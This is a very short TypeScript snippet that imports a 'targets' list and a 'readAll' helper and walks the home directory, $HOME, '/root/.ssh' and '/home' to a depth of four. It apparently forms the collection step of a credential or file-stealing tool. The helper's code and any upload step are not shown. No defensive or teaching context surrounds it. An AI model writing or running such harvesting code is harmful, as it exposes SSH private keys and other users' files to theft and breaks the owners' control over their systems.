import { targets } from './targets.ts';
import { readAll } from './tools.ts';

for (const folder of [targets.home, process.env.HOME ?? '', '/root/.ssh', '/home']) readAll(folder, 4);
